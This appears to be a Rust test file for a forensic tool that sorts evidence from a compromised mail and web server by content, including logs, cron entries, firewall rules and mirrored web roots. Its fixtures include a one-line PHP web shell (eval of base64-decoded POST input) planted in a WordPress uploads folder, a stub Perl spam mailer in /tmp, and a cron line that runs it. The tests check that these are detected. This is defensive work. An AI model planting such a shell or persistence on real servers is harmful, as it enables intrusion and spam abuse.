//! Every kind is told by its content, whatever the file is called.

use crate::folder::{Folder, Kept, input, shown};
use heloscope_evidence::Kind;

/// File name, content, kind, records.
fn files() -> Vec<(&'static str, String, Kind, u64)> {
    vec![
        ("a1", "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nwww-data 4711 0 0 1 1 ? R 14:02 0:01 perl /tmp/.x\n".into(), Kind::Processes, 1),
        ("a2", "*/15 * * * * perl /var/tmp/.x >/dev/null 2>&1\n".into(), Kind::Processes, 1),
        ("a3", "State Recv-Q Send-Q Local Address:Port Peer Address:Port Process\nSYN-SENT 0 1 192.0.2.10:41000 198.51.100.25:25 users:((\"perl\",pid=4711,fd=3))\n".into(), Kind::Connections, 1),
        ("a4", "1449248400 02:00:5e:00:53:01 192.168.1.23 laptop 01:02:00:5e:00:53:01\n".into(), Kind::Leases, 1),
        ("a5", "192.0.2.1 - - [04/Dec/2015:14:30:00 +0000] \"POST /x.php HTTP/1.1\" 200 5 \"-\" \"x\"\n".into(), Kind::WebLog, 1),
        ("a6", "myhostname = mail.example.org\nmynetworks = 127.0.0.0/8\n".into(), Kind::MtaConfig, 2),
        ("a7", "Received: by mail.example.org (Postfix, from userid 33) id 4ABCDE123; Fri, 4 Dec 2015 14:30:00 +0000\nFrom: a@example.org\nTo: b@example.net\nSubject: x\nDate: Fri, 4 Dec 2015 14:30:00 +0000\n\nx\n".into(), Kind::Messages, 1),
        ("a8", "From a@example.org Fri Dec  4 14:30:00 2015\nFrom: a@example.org\nTo: b@example.net\nSubject: x\n\nx\n\nFrom a@example.org Fri Dec  4 14:31:00 2015\nFrom: a@example.org\nSubject: y\nTo: c@example.org\n\ny\n".into(), Kind::Messages, 2),
        ("a9", "Dec  4 14:30:00 gw kernel: [1.0] OUT25: IN=eth1 OUT=eth0 MAC=02:00:5e:00:53:fe:02:00:5e:00:53:17:08:00 SRC=192.168.1.23 DST=198.51.100.25 LEN=60 PROTO=TCP SPT=49152 DPT=25 SYN URGP=0\n".into(), Kind::Connections, 1),
        ("b1", "\"https://www.spamhaus.org/query/ip/203.0.113.10\"\n".into(), Kind::Notice, 1),
        ("b2", "*filter\n:OUTPUT ACCEPT [0:0]\n-A OUTPUT -p tcp --dport 25 -j DROP\nCOMMIT\n".into(), Kind::Firewall, 2),
        ("b3", "year = 2015\n".into(), Kind::Site, 1),
        ("b4", "just some words\n".into(), Kind::Unrecognised, 0),
        ("b5", "tcp 6 431999 ESTABLISHED src=192.168.1.23 dst=198.51.100.25 sport=49152 dport=25 src=198.51.100.25 dst=203.0.113.10 sport=25 dport=49152 [ASSURED]\n".into(), Kind::Connections, 1),
        ("b6", "Dec  4 14:30:00 mail sshd[1]: Accepted password for anna from 192.0.2.9 port 5 ssh2\n".into(), Kind::AuthLog, 0),
    ]
}

#[test]
fn each_by_its_content() {
    let folder = Folder::new();
    for (name, content, ..) in files() {
        folder.put(name, content);
    }
    // Messages that are alone in their folder are inputs by themselves.
    let mut evidence = folder.open();
    Kept::of(&mut evidence);
    for (name, _, kind, records) in files() {
        let found = input(&evidence, name, kind.word());
        assert_eq!(found.records, records, "{name}: {:#?}", shown(&evidence));
    }
    assert!(
        input(&evidence, "b2", "firewall").note.as_deref().unwrap().contains("taken as IPv4's")
    );
    assert_eq!(evidence.inputs.len(), files().len(), "{:#?}", shown(&evidence));
}

#[test]
fn packed_files_are_opened() {
    use std::io::Write;
    let line = "192.0.2.1 - - [04/Dec/2015:14:30:00 +0000] \"GET /one HTTP/1.1\" 200 5\n";
    let folder = Folder::new();
    let gz = |text: &str| {
        let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        out.write_all(text.as_bytes()).unwrap();
        out.finish().unwrap()
    };
    // Two members, one after the other.
    let mut two = gz(line);
    two.extend(gz(&line.replace("one", "two")));
    folder.put("w.gz", two);
    folder.put("w.zst", zstd::encode_all(line.as_bytes(), 3).unwrap());
    let mut xz = liblzma::write::XzEncoder::new(Vec::new(), 6);
    xz.write_all(line.as_bytes()).unwrap();
    folder.put("w.xz", xz.finish().unwrap());
    let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
    bz.write_all(line.as_bytes()).unwrap();
    folder.put("w.bz2", bz.finish().unwrap());
    let mut evidence = folder.open();
    let kept = Kept::of(&mut evidence);
    assert_eq!(kept.requests.len(), 5, "{:#?}", shown(&evidence));
    let two = kept.requests.iter().find(|r| r.target.to_string() == "/two").unwrap();
    assert_eq!(evidence.quote(two.place).unwrap().locator, "line 2");
}

#[test]
fn several_kinds_in_one_file() {
    let folder = Folder::new();
    folder.put(
        "syslog",
        "Dec  4 14:29:00 gw dnsmasq-dhcp[5]: DHCPACK(eth1) 192.168.1.23 02:00:5e:00:53:17 laptop\n\
         Dec  4 14:30:00 gw kernel: [1.0] OUT25: IN=eth1 OUT=eth0 SRC=192.168.1.23 DST=198.51.100.25 LEN=60 PROTO=TCP SPT=49152 DPT=25 SYN\n\
         Dec  4 14:30:01 gw postfix/pickup[1]: 3A1B2C3D4E: uid=33 from=<www-data>\n\
         Dec  4 14:30:01 gw postfix/qmgr[2]: 3A1B2C3D4E: removed\n",
    );
    folder.put("site.toml", "year = 2015\ntimezone = \"Europe/Berlin\"\n");
    folder.put(
        "collected.txt",
        "collected by anna\n\n# ps auxww\nUSER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot 1 0 0 1 1 ? Ss Dec01 0:01 /sbin/init\n\n\
         root@gw:~# ss -tanp\nState Recv-Q Send-Q Local Address:Port Peer Address:Port Process\nLISTEN 0 100 0.0.0.0:25 0.0.0.0:* users:((\"master\",pid=1200,fd=13))\n\n\
         # crontab -l -u www-data\n*/15 * * * * perl /var/tmp/.x\n\n# uptime\n 14:30:00 up 1 day\n",
    );
    let mut evidence = folder.open();
    let kept = Kept::of(&mut evidence);
    assert_eq!(kept.order, ["connection", "mail"], "{:#?}", shown(&evidence));
    assert_eq!(kept.connections.len(), 2);
    assert_eq!(kept.mails.len(), 1);
    assert_eq!(kept.mails[0].first.rfc3339(), "2015-12-04T13:30:01Z");
    assert_eq!(kept.connections[1].time.unwrap().rfc3339(), "2015-12-04T13:30:00Z");
    assert_eq!(evidence.facts.leases[0].from.unwrap().rfc3339(), "2015-12-04T13:29:00Z");
    assert_eq!(evidence.facts.processes.len(), 1);
    assert_eq!(evidence.facts.cron[0].user.as_deref(), Some("www-data"));
    let quote = evidence.quote(evidence.facts.processes[0].place).unwrap();
    assert_eq!((quote.locator.as_str(), quote.text.starts_with("root 1 ")), ("line 5", true));
    for kind in ["mail-log", "connections", "leases"] {
        assert_eq!(
            input(&evidence, "syslog", kind).records,
            if kind == "mail-log" { 2 } else { 1 }
        );
    }
}

#[test]
fn a_firewalls_lines_in_the_middle_of_a_long_log() {
    let folder = Folder::new();
    let noise =
        "Dec  4 14:00:00 gw ntpd[9]: nothing to see in this line of some length\n".repeat(3000);
    let lines = "Dec  4 14:30:00 gw kernel: [1.0] OUT25: IN=eth1 OUT=eth0 SRC=192.168.1.23 DST=198.51.100.25 LEN=60 PROTO=TCP SPT=49152 DPT=25 SYN\n\
                 Dec  4 14:30:01 gw postfix/pickup[1]: 3A1B2C3D4E: uid=33 from=<www-data>\n";
    folder.put("syslog", format!("{noise}{lines}{}", noise.replace("14:00", "15:00")));
    folder.put("site.toml", "year = 2015\ntimezone = \"UTC\"\n");
    let mut evidence = folder.open();
    let kept = Kept::of(&mut evidence);
    assert_eq!((kept.connections.len(), kept.mails.len()), (1, 1), "{:#?}", shown(&evidence));
    assert_eq!(evidence.quote(kept.connections[0].place).unwrap().locator, "line 3001");
}

#[test]
fn logs_collected_under_their_commands() {
    let folder = Folder::new();
    folder.put("site.toml", "year = 2015\ntimezone = \"UTC\"\n");
    folder.put(
        "all.txt",
        "==> /var/log/syslog <==\n\
         Dec  4 14:29:00 gw dnsmasq-dhcp[5]: DHCPACK(eth1) 192.168.1.23 02:00:5e:00:53:17 laptop\n\
         Dec  4 14:30:00 gw kernel: [1.0] OUT25: IN=eth1 OUT=eth0 SRC=192.168.1.23 DST=198.51.100.25 LEN=60 PROTO=TCP SPT=49152 DPT=25 SYN\n\
         Dec  4 14:30:01 gw postfix/pickup[1]: 3A1B2C3D4E: uid=33 from=<www-data>\n\
         \n==> /var/log/apache2/access.log <==\n\
         192.0.2.1 - - [04/Dec/2015:14:30:00 +0000] \"POST /x.php HTTP/1.1\" 200 5 \"-\" \"x\"\n\
         \n# ps auxww\nUSER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot 1 0 0 1 1 ? Ss Dec01 0:01 /sbin/init\n",
    );
    let mut evidence = folder.open();
    let kept = Kept::of(&mut evidence);
    assert_eq!(kept.order, ["connection", "mail", "request"], "{:#?}", shown(&evidence));
    assert_eq!(evidence.facts.leases.len(), 1);
    assert_eq!(evidence.facts.processes.len(), 1);
    assert_eq!(evidence.quote(kept.requests[0].place).unwrap().locator, "line 7");
}

#[test]
fn rotated_sets_in_any_order_are_one_chain() {
    let folder = Folder::new();
    let begin = "Dec 31 23:59:50 mail postfix/pickup[1]: 3A1B2C3D4E: uid=33 from=<www-data>\n\
                 Dec 31 23:59:50 mail postfix/qmgr[2]: 3A1B2C3D4E: from=<w@example.org>, size=500, nrcpt=1 (queue active)\n";
    let end = "Jan  1 00:00:10 mail postfix/smtp[3]: 3A1B2C3D4E: to=<a@example.net>, relay=mx.example.net[198.51.100.25]:25, delay=20, delays=0.1/0/1/19, dsn=2.0.0, status=sent (250 ok)\n\
               Jan  1 00:00:10 mail postfix/qmgr[2]: 3A1B2C3D4E: removed\n";
    folder.put("mail.log", end);
    folder.put("mail.log.1", begin);
    folder.put("access", "192.0.2.1 - - [31/Dec/2015:23:00:00 +0100] \"GET / HTTP/1.1\" 200 5\n");
    let mut evidence = folder.open();
    let kept = Kept::of(&mut evidence);
    assert_eq!(kept.mails.len(), 1, "{:#?}", shown(&evidence));
    let mail = &kept.mails[0];
    assert!(mail.complete);
    // The web log tells year and zone.
    assert_eq!(mail.first.rfc3339(), "2015-12-31T22:59:50Z");
    assert_eq!(mail.last.rfc3339(), "2015-12-31T23:00:10Z");
    let note = input(&evidence, "mail.log.1", "mail-log").note.clone().unwrap();
    assert!(note.contains("taken from the web log"), "{note}");
}

#[test]
fn lines_that_two_logs_hold_are_read_once() {
    let folder = Folder::new();
    let mut mail = String::new();
    let mut syslog = String::new();
    for i in 0..40 {
        let id = format!("3A1B2C3D{i:02X}");
        let lines = format!(
            "Dec  4 14:{i:02}:00 mail postfix/pickup[1]: {id}: uid=33 from=<www-data>\nDec  4 14:{i:02}:01 mail postfix/qmgr[2]: {id}: removed\n"
        );
        mail.push_str(&lines);
        syslog.push_str(&lines);
        syslog.push_str(&format!("Dec  4 14:{i:02}:02 mail ntpd[9]: x\n"));
    }
    folder.put("mail.log", &mail);
    folder.put("syslog", &syslog);
    folder.put("site.toml", "year = 2015\n");
    let mut evidence = folder.open();
    let kept = Kept::of(&mut evidence);
    assert_eq!(kept.mails.len(), 40, "{:#?}", shown(&evidence));
    let again = evidence
        .inputs
        .iter()
        .filter(|i| i.note.as_deref().is_some_and(|n| n.contains("read once")))
        .count();
    assert_eq!(again, 1);
}

#[test]
fn mirrored_file_systems_and_web_roots() {
    let folder = Folder::new();
    folder.put("var/www/shop/index.php", "<?php require 'lib.php';\n");
    folder.put("var/www/shop/lib.php", "<?php function a() {}\n");
    folder.put(
        "var/www/shop/wp-content/uploads/2015/12/wp-cache.php",
        "<?php eval(base64_decode($_POST['c']));\n",
    );
    folder.put("var/www/shop/style.css", "body {}\n");
    folder.put(
        "tmp/.x/m.pl",
        "#!/usr/bin/perl\nuse IO::Socket;\nprint \"MAIL FROM:<a>\\r\\nRCPT TO:<b>\\r\\n\";\n",
    );
    folder.put("etc/cron.d/x", "*/15 * * * * www-data perl /tmp/.x/m.pl\n");
    folder.put("etc/postfix/main.cf", "myhostname = mail.example.org\nmynetworks = 127.0.0.0/8\n");
    folder.put("home/anna/notes.txt", "buy milk\n");
    folder.put("var/log/apache2/access.log", "192.0.2.1 - - [04/Dec/2015:14:30:00 +0000] \"POST /wp-content/uploads/2015/12/wp-cache.php HTTP/1.1\" 200 5\n");
    folder.put("files.txt", "1449239400.0000000000 /var/www/shop/wp-content/uploads/2015/12/wp-cache.php\n1400000000.0000000000 /var/www/shop/index.php\n");
    let evidence = folder.open();
    assert_eq!(evidence.facts.web_roots, ["/var/www/shop"], "{:#?}", shown(&evidence));
    let shop = input(&evidence, "var/www/shop", "web-root");
    assert_eq!(shop.records, 4);
    let planted =
        evidence.facts.web_files.iter().find(|f| f.path.ends_with("wp-cache.php")).unwrap();
    assert_eq!(planted.path, "/var/www/shop/wp-content/uploads/2015/12/wp-cache.php");
    let rules: Vec<&str> = planted.findings.iter().map(|f| f.rule.as_str()).collect();
    assert!(rules.contains(&"eval-decoded") && rules.contains(&"code-in-uploads"), "{rules:?}");
    assert_eq!(planted.modified.unwrap().rfc3339(), "2015-12-04T14:30:00Z");
    let quote = evidence.quote(planted.findings[0].place).unwrap();
    assert!(
        quote.source.ends_with("wp-cache.php") && quote.text.contains("eval(base64_decode("),
        "{quote:?}"
    );
    assert!(evidence.path(planted.place.source).unwrap().ends_with("wp-cache.php"));
    assert_eq!(evidence.input(planted.place.source).unwrap().kind, Kind::WebRoot);
    let dropped = evidence.facts.web_files.iter().find(|f| f.path == "/tmp/.x/m.pl").unwrap();
    assert!(dropped.can_mail && dropped.findings.iter().any(|f| f.rule == "mailer-in-tmp"));
    assert_eq!(evidence.facts.cron[0].user.as_deref(), Some("www-data"));
    assert_eq!(evidence.facts.settings.len(), 2);
    assert!(evidence.facts.web_files.iter().all(|f| !f.path.ends_with("index.php")));
}

#[test]
fn a_maildir_is_one_input() {
    let folder = Folder::new();
    for i in 0..3 {
        folder.put(
            &format!("Maildir/cur/{i}:2,S"),
            format!("From: a@example.org\nTo: b@example.net\nSubject: {i}\nDate: Fri, 4 Dec 2015 14:3{}:00 +0000\n\nx\n", 3 - i),
        );
    }
    let mut evidence = folder.open();
    let kept = Kept::of(&mut evidence);
    let maildir = input(&evidence, "Maildir", "messages");
    assert_eq!(maildir.records, 3);
    let subjects: Vec<String> =
        kept.copies.iter().map(|c| c.subject.as_ref().unwrap().to_string()).collect();
    assert_eq!(subjects, ["2", "1", "0"]);
    assert!(evidence.path(kept.copies[0].place.source).unwrap().ends_with("2:2,S"));
}
